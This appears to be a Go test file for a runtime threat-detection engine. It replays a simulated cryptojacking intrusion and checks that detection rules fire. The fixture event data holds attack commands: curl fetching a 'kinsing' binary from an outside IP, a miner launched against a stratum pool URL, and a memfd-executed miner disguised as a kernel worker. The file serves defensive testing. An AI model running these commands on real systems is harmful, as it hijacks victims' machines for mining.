package analyze

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"testing"

	"saker/dns"
	"saker/event"
	"saker/github"
	"saker/rules"
)

// attackScenario is a whole cryptojacking story: a web shell in a container downloads and
// starts a miner, the host gets a second miner from memfd, both talk to pools.
func attackScenario() []event.Event {
	return cat(preamble(),
		one(fork(10, 1001, 1100), execve(11, 1100, "/usr/bin/curl", []string{"curl", "-o", "/tmp/kinsing", "http://203.0.113.20/kinsing"}, event.ExeLowerLayer, dockerCgroup)),
		connectTo(12, 1100, 3, "172.17.0.2:40100", "203.0.113.20:80"),
		one(ev(14, event.KindOpenat, 1100, 1100, 4, A{"dirfd": event.Int(atFDCWD), "name": event.Str("/tmp/kinsing"), "flags": event.Int(0o1101), "mode": event.Int(0o755)}),
			ev(15, event.KindClose, 1100, 1100, 0, A{"fd": event.Int(4)}),
			ev(16, event.KindProcexit, 1100, 1100, 0, nil),
			ev(17, event.KindChmod, 1001, 1001, 0, A{"filename": event.Str("/tmp/kinsing"), "mode": event.Int(0o755)}),
			fork(18, 1001, 1101),
			execve(19, 1101, "/tmp/kinsing", []string{"/tmp/kinsing", "-o", "stratum+tcp://pool.supportxmr.com:3333", "--donate-level=1"}, event.ExeUpperLayer, dockerCgroup)),
		connectTo(20, 1101, 5, "172.17.0.2:40200", "198.51.100.7:3333"),
		one(send(22, 1101, 5, xmrigLogin),
			fork(30, 900, 950),
			// fexecve of a memfd: the kernel names the process after /dev/fd/3.
			withArg(execve(31, 950, "memfd:x (deleted)", []string{"[kworker/0:1]", "--randomx-1gb-pages"}, event.ExeFromMemfd, ""), "comm", event.Str("3")),
			ev(32, event.KindOpenat, 950, 950, 3, A{"dirfd": event.Int(atFDCWD), "name": event.Str("/proc/sys/vm/nr_hugepages"), "flags": event.Int(1)}),
			ev(32, event.KindWrite, 950, 950, 5, A{"fd": event.Int(3), "size": event.Int(5), "data": event.Str("1280\n")})),
		connectTo(33, 950, 4, "10.0.0.5:40300", "198.51.100.8:443"),
		one(send(35, 950, 4, stratumSubscribe)),
	)
}

func renderRun(t *testing.T) []byte {
	t.Helper()
	idx := dns.NewIndex(dns.IndexOptions{})
	for _, m := range poolDNS() {
		idx.Add(&m)
	}
	var out bytes.Buffer
	var procs, conns, files int
	_, err := Run(context.Background(), event.NewSliceSource(attackScenario()...), Options{
		Names: idx, Hostname: "victim-1",
		Finding: func(f *Finding) error {
			b, err := json.Marshal(f)
			if err != nil {
				return err
			}
			out.WriteString(f.Text())
			out.WriteByte('\n')
			out.Write(b)
			out.WriteByte('\n')
			return nil
		},
		Hooks: Hooks{
			Process: func(r *ProcessRecord) { procs++; b, _ := json.Marshal(r); out.Write(b); out.WriteByte('\n') },
			Conn:    func(r *ConnRecord) { conns++; b, _ := json.Marshal(r); out.Write(b); out.WriteByte('\n') },
			File:    func(r *FileRecord) { files++; b, _ := json.Marshal(r); out.Write(b); out.WriteByte('\n') },
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if procs == 0 || conns != 3 || files == 0 {
		t.Fatalf("records: %d processes, %d connections, %d files", procs, conns, files)
	}
	return out.Bytes()
}

func TestRunDeterministic(t *testing.T) {
	a, b := renderRun(t), renderRun(t)
	if !bytes.Equal(a, b) {
		t.Fatalf("two runs differ:\n%s\n---\n%s", a, b)
	}
	for _, rule := range []string{"Container Drift Executable Created", "Container Drift Chmod Executable",
		"Container Drift Upper Layer Executed", "Stratum URI in Command Line", "Outbound Connection to Mining Pool",
		"Mining Protocol in Socket Payload", "Fileless Execution from Memfd", "Huge Pages Raised", "Miner Command-Line Flags"} {
		if !bytes.Contains(a, []byte(`"rule":"`+rule+`"`)) {
			t.Errorf("scenario lacks a %q finding", rule)
		}
	}
	if testing.Verbose() {
		t.Logf("%s", a)
	}
}

func TestRunStops(t *testing.T) {
	stop := errors.New("stop")
	_, err := Run(context.Background(), event.NewSliceSource(attackScenario()...), Options{Finding: func(*Finding) error { return stop }})
	if !errors.Is(err, stop) {
		t.Fatalf("err = %v, want stop", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Run(ctx, event.NewSliceSource(attackScenario()...), Options{}); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	rs, _, err := rules.LoadBytes("bad.yaml", []byte("- rule: x\n  desc: x\n  output: x\n  priority: INFO\n  condition: proc.nosuch = 1\n"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Run(context.Background(), event.NewSliceSource(), Options{Rules: rs}); err == nil {
		t.Fatal("unknown field compiled")
	}
}

// TestMemoryBounded forks and exits many short-lived processes and checks the state does
// not keep them beyond the exited cache.
func TestMemoryBounded(t *testing.T) {
	s := NewState(nil, nil, Hooks{})
	evs := preamble()
	for i := range evs {
		s.Update(&evs[i])
	}
	parent := uint32(900)
	for i := range 50_000 {
		child := uint32(2000 + i%30000)
		for _, e := range []event.Event{
			fork(uint64(i*10), parent, child),
			execve(uint64(i*10+1), child, "/bin/sh", []string{"sh", "-c", "true"}, 0, ""),
			ev(uint64(i*10+2), event.KindOpenat, child, child, 3, A{"dirfd": event.Int(atFDCWD), "name": event.Str("/etc/passwd")}),
		} {
			s.Update(&e)
		}
		// Every 7th child daemonizes: its parent exits and it forks the next ones.
		exiting := child
		if i%7 == 0 {
			exiting = parent
			parent = child
		}
		if exiting == 900 {
			exiting, parent = child, 900
		}
		x := ev(uint64(i*10+3), event.KindProcexit, exiting, exiting, 0, nil)
		s.Update(&x)
	}
	s.Finish()
	st := s.Stats()
	if st.Processes > exitedCacheSize+len(preamble()) || st.Threads > 10 {
		t.Fatalf("state grew: %+v", st)
	}
}

// TestExtractorsDoNotAllocate evaluates every served field on a socket event and an execve
// after warm-up and requires no allocation.
func TestExtractorsDoNotAllocate(t *testing.T) {
	idx := dns.NewIndex(dns.IndexOptions{})
	for _, m := range poolDNS() {
		idx.Add(&m)
	}
	s := NewState(nil, idx, Hooks{})
	p := NewProvider(s)
	evs := attackScenario()
	for i := range evs {
		evs[i].Num = uint64(i + 1)
		s.Update(&evs[i])
	}
	last := &evs[len(evs)-1]
	var xs []rules.Extractor
	for _, n := range FieldNames() {
		arg := ""
		switch n {
		case "evt.arg.*":
			n = "evt.arg.data"
		case "evt.rawarg.*":
			n = "evt.rawarg.size"
		case "proc.aname", "proc.aexe":
			xs = append(xs, mustField(t, p, n, "2"))
		case "evt.arg":
			arg = "0"
		case "container.mount.dest":
			arg = "/var/run/docker.sock"
		}
		if len(n) > 4 && n[:4] == "dns." {
			continue
		}
		xs = append(xs, mustField(t, p, n, arg))
	}
	var buf [][]byte
	eval := func() {
		for _, x := range xs {
			switch {
			case x.Str != nil:
				x.Str(last)
			case x.Int != nil:
				x.Int(last)
			case x.IP != nil:
				x.IP(last)
			case x.List != nil:
				buf, _ = x.List(last, buf[:0])
			}
		}
	}
	eval()
	if n := testing.AllocsPerRun(100, eval); n != 0 {
		t.Fatalf("extractors allocate %v times per event", n)
	}
}

func mustField(t *testing.T, p *Provider, name, arg string) rules.Extractor {
	t.Helper()
	x, err := p.Field(SourceSyscall, name, arg)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return x
}

// TestGithubSource runs package github's fixture deliveries through the default rules: the
// github source's fields are served and its rules fire.
func TestGithubSource(t *testing.T) {
	src, err := github.Open("../github/testdata/deliveries", github.Options{})
	if err != nil {
		t.Skipf("github fixtures: %v", err)
	}
	res, err := Run(context.Background(), src, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.ByRule["Github action with miners"] != 1 || res.ByRule["Workflow with miners pushed"] != 1 {
		t.Fatalf("github findings: %v", res.ByRule)
	}
}
